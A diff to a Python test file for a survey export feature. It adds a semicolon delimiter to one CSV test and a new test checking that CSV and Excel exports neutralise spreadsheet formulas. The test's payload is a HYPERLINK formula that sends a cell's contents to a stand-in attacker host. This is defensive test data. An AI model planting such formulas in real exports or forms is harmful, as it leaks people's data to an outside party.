@@ -204,7 +204,7 @@ def test_the_export_is_anonymised(sent_survey, refugee, eval_round, coordinator)
     content, content_type = export.survey_export(round=eval_round, kind=SurveyKind.HOUSEHOLD,
                                                  fmt="csv", by=coordinator)  # fmt: skip
     text = content.decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert content_type.startswith("text/csv")
     assert len(rows) == 2
     assert "comment" not in rows[0]
@@ -223,3 +223,26 @@ def test_the_excel_export_holds_the_same_rows(sent_survey, refugee, eval_round, 
     rows = list(sheet.values)
     assert len(rows) == 2
     assert rows[1][7] == 5
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_typed_into_a_survey_answer_stays_text(eval_round, coordinator, fmt):
+    attack = '=HYPERLINK("http://evil.example/steal?d="&A2,"x")'
+    Survey.objects.create(
+        round=eval_round, kind=SurveyKind.MUNICIPALITY, wave=Wave.ROUND_END,
+        municipality=eval_round.kiel, due_on=date(2026, 1, 1), answered_at=datetime(2026, 1, 2),
+        answers={"workshop_topics": attack}, language="de",
+    )  # fmt: skip
+    content, _type = export.survey_export(
+        round=eval_round, kind=SurveyKind.MUNICIPALITY, fmt=fmt, by=coordinator
+    )
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+        assert rows[1][-1] == "'" + attack
+    else:
+        cell = load_workbook(io.BytesIO(content)).active.cell(row=2, column=len(rows_of(content)))
+        assert (cell.data_type, cell.value) == ("s", attack)
+
+
+def rows_of(content: bytes) -> list:
+    return list(load_workbook(io.BytesIO(content)).active.values)[0]
